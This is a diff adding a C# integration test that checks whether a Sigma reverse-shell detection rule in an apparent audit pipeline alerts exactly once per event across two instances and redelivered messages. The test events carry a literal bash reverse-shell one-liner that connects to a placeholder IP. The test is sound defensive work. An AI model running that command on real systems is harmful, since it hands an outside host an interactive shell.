@@ -4,6 +4,7 @@ using Gatehouse.Audit.Alerts;
 using Gatehouse.Audit.Tests.EventPipeline;
 using Gatehouse.Contracts;
 using Gatehouse.TestSupport;
+using MassTransit;
 using Microsoft.AspNetCore.Mvc.Testing;
 using Microsoft.Extensions.DependencyInjection;
 using Microsoft.Extensions.Logging;
@@ -116,6 +117,65 @@ public sealed class SigmaRulesThroughThePipelineTests(PipelineFixture pipeline)
             await audit.DisposeAsync();
             await pipeline.StartAuditAsync();
             Directory.Delete(folder, recursive: true);
+        }
+    }
+}
+
+/// <summary>The built-in rules' guarantees hold for Sigma rules: a second Audit instance and a redelivered event raise no second alert.</summary>
+[Collection(PipelineCollection.Name)]
+public sealed class SigmaAlertsAreRaisedOnce(PipelineFixture pipeline)
+{
+    private static string NewName(string name) => $"{name}-{Guid.NewGuid():N}"[..22];
+
+    private static CommandExecuted ReverseShell(string user) =>
+        Command("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", user) with
+        {
+            CorrelationId = Guid.NewGuid().ToString(), EventId = Guid.CreateVersion7(), OccurredAt = DateTimeOffset.UtcNow,
+        };
+
+    private async Task<IReadOnlyList<AlertView>> AlertsAsync(string user)
+    {
+        using var client = pipeline.Audit.Analyst();
+        return (await client.GetFromJsonAsync<IReadOnlyList<AlertView>>($"/api/audit/alerts?user={user}&rule=sigma%3Areverse-shell", AuditService.Json))!;
+    }
+
+    private async Task<IReadOnlyList<AlertView>> WaitForAlertAsync(string user)
+    {
+        var deadline = DateTime.UtcNow.AddSeconds(90);
+        var alerts = await AlertsAsync(user);
+        while (alerts.Count == 0 && DateTime.UtcNow < deadline)
+        {
+            await Task.Delay(250);
+            alerts = await AlertsAsync(user);
+        }
+
+        return alerts;
+    }
+
+    [Fact]
+    public async Task With_two_audit_instances_and_the_events_delivered_again_each_sigma_alert_is_raised_once()
+    {
+        await using var second = pipeline.StartAnotherAudit();
+        var users = Enumerable.Range(0, 3).Select(_ => NewName("mallory")).ToList();
+        var commands = users.Select(ReverseShell).ToList();
+        await pipeline.Producer.AppendAsync(commands);
+        foreach (var user in users)
+        {
+            Assert.Single(await WaitForAlertAsync(user));
+        }
+
+        foreach (var command in commands)
+        {
+            await pipeline.Producer.Bus.Publish(command, context => context.MessageId = command.EventId);
+        }
+
+        // Once a later event's alert is there, the redelivered copies have been through the store and the rules.
+        var sentinel = NewName("sentinel");
+        await pipeline.Producer.AppendAsync([ReverseShell(sentinel)]);
+        Assert.Single(await WaitForAlertAsync(sentinel));
+        foreach (var user in users)
+        {
+            Assert.Single(await AlertsAsync(user));
         }
     }
 }
